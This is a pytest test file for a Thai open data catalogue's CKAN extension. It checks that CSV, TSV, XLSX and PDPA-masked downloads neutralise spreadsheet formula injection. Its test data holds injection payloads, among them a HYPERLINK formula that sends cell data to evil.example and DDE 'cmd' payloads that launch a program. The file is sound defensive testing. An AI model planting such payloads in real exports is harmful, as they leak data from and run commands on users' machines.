"""Every download the catalogue serves shows formula-like cells as text, never as formulas.

A table holds ``=HYPERLINK(...)``, ``=cmd|...``, ``@SUM(...)``, ``+``/``-``
expressions and cells starting with a tab or CR (and a column named like a
formula).  Each download path must serve them with the leading apostrophe
that makes Excel and LibreOffice show the text: the DataStore dump (CSV,
with and without a BOM, and TSV), the masked table of a PDPA-guarded
upload, the records API exports (CSV, XLSX) and the GD Catalog export.
Plain numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import ckan.lib.jobs as ckan_jobs
import openpyxl
import pytest

from ckanext.opendata_th.ingest import pdpa, status
from ckanext.opendata_th.lib.spreadsheet import FORMULA_START
from tests.conftest import PLUGINS
from tests.governance.conftest import Agency, create_dataset
from tests.helpers import api_post

pytestmark = [
    pytest.mark.ckan_config("ckan.plugins", PLUGINS),
    pytest.mark.usefixtures("with_plugins", "clean_db", "clean_index", "with_test_worker", "clean_redis"),
]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_COLUMN = "=SUM(1)"


def _unsafe(cell: str) -> bool:
    """A cell a spreadsheet would evaluate (a plain number is data)."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.startswith(FORMULA_START)


def _cells_of_csv(data: bytes, delimiter: str = ",") -> list[list[str]]:
    text = data.decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _assert_neutralised(rows: list[list[Any]]) -> None:
    cells = [str(cell) for row in rows for cell in row if cell is not None]
    unsafe = [cell for cell in cells if _unsafe(cell)]
    assert not unsafe, unsafe
    for formula in FORMULAS:
        assert "'" + formula in cells, formula
    assert "'" + FORMULA_COLUMN in cells  # the header row too
    assert "-7.2" in cells  # a negative number is not a formula


@pytest.fixture
def table(app: Any, agency: Agency) -> dict[str, Any]:
    dataset = create_dataset(app, agency, name="formulas")
    records = [{"เมือง": f"เมือง {i}", "หมายเหตุ": formula, FORMULA_COLUMN: "-7.2"} for i, formula in enumerate(FORMULAS)]
    created = api_post(
        app,
        "datastore_create",
        agency.token("editor"),
        resource={"package_id": dataset["id"], "name": "หมายเหตุ", "format": "CSV"},
        fields=[
            {"id": "เมือง", "type": "text"},
            {"id": "หมายเหตุ", "type": "text"},
            {"id": FORMULA_COLUMN, "type": "text"},
        ],
        records=records,
        force=True,
    )["result"]
    return {"dataset": dataset, "resource_id": created["resource_id"]}


@pytest.mark.parametrize(
    ("query", "delimiter"), [("", ","), ("?format=csv&bom=true", ","), ("?format=tsv", "\t"), ("?limit=3", ",")]
)
def test_the_datastore_dump_neutralises_formulas(app, table, query, delimiter):
    response = app.get(f"/datastore/dump/{table['resource_id']}{query}")
    assert response.status_code == 200
    rows = _cells_of_csv(response.get_data(), delimiter)
    if "limit" in query:
        assert len(rows) == 4 and all(not _unsafe(cell) for row in rows for cell in row)
        return
    assert len(rows) == 1 + len(FORMULAS)
    assert response.get_data().startswith(b"\xef\xbb\xbf") == ("bom=true" in query)
    _assert_neutralised(rows)


def test_the_records_api_exports_neutralise_formulas(app, table):
    url = f"/api/opendata/v1/resources/{table['resource_id']}/records"
    _assert_neutralised(_cells_of_csv(app.get(url, query_string={"format": "csv"}).get_data()))
    book = openpyxl.load_workbook(io.BytesIO(app.get(url, query_string={"format": "xlsx"}).get_data()))
    _assert_neutralised([list(row) for row in book.active.iter_rows(values_only=True)])


def test_the_masked_table_of_a_pdpa_upload_neutralises_formulas(app, agency):
    dataset = create_dataset(app, agency, name="people-notes")
    ids = [f"3101200{i:05d}" for i in range(len(FORMULAS))]
    ids = [first + next(d for d in "0123456789" if pdpa.is_citizen_id(first + d)) for first in ids]
    lines = [f'{ids[i]},"{formula.replace(chr(34), chr(34) * 2)}",-7.2' for i, formula in enumerate(FORMULAS)]
    upload = (f"เลขประจำตัวประชาชน,หมายเหตุ,{FORMULA_COLUMN}\n" + "\n".join(lines) + "\n").encode()
    response = app.post(
        "/api/3/action/resource_create",
        data={"package_id": dataset["id"], "name": "p", "upload": (io.BytesIO(upload), "p.csv")},
        headers={"Authorization": agency.token("editor")},
        content_type="multipart/form-data",
    )
    resource = response.json["result"]
    ckan_jobs.Worker(["default"]).work(burst=True)
    api_post(app, "opendata_th_ingest_pdpa_decide", agency.token("editor"), resource_id=resource["id"], decision="mask")
    ckan_jobs.Worker(["default"]).work(burst=True)
    assert status.get(resource["id"])["pdpa_state"] == status.PDPA_RESOLVED

    url = f"/dataset/{dataset['id']}/resource/{resource['id']}/download/p.csv"
    masked = app.get(url, follow_redirects=True)
    assert masked.status_code == 200
    rows = _cells_of_csv(masked.get_data())
    assert ids[0] not in masked.get_data(as_text=True)
    # the loader trims the tab and CR a cell starts with; what remains is still neutralised
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if _unsafe(cell)]
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[2] in cells and "'" + FORMULA_COLUMN in cells


def test_the_gd_catalog_export_neutralises_formulas(app, agency):
    create_dataset(app, agency, name="formula-notes", notes=FORMULAS[0])
    response = app.get(
        f"/organization/{agency.org['name']}/gdc-export.xlsx", headers={"Authorization": agency.token("editor")}
    )
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    cells = [str(c) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row if c]
    assert "'" + FORMULAS[0] in cells
    assert not [cell for cell in cells if _unsafe(cell)]
